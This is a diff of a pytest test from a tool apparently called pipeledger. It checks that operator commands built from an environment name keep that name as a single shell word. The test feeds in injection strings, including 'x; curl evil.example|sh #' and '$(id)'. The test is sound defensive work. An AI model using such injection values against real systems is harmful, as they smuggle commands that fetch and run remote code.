@@ -106,7 +106,10 @@ def test_deployments_lie_along_time_by_line() -> None:
 @pytest.mark.parametrize("name", ["x; curl evil.example|sh #", "$(id)", "--data=/tmp/theirs"])
 def test_what_settles_a_gap_says_an_environments_name_and_nothing_else(name: str) -> None:
     """It is the command of operators: the name, which anybody may have sent, is one word of it."""
-    (gap,) = gaps.told([{"gap": gaps.TIER, "name": name, "items": 2}])
+    (gap, other) = gaps.told(
+        {"gap": one, "name": name, "items": 2} for one in (gaps.TIER, gaps.INCIDENTS)
+    )
+    assert other.run == gap.run
     words = shlex.split(gap.run or "")
     assert words[:3] == ["pipeledger-server", "environment", "register"]
     filled = [word.replace("TIER", "production") for word in words[3:]]
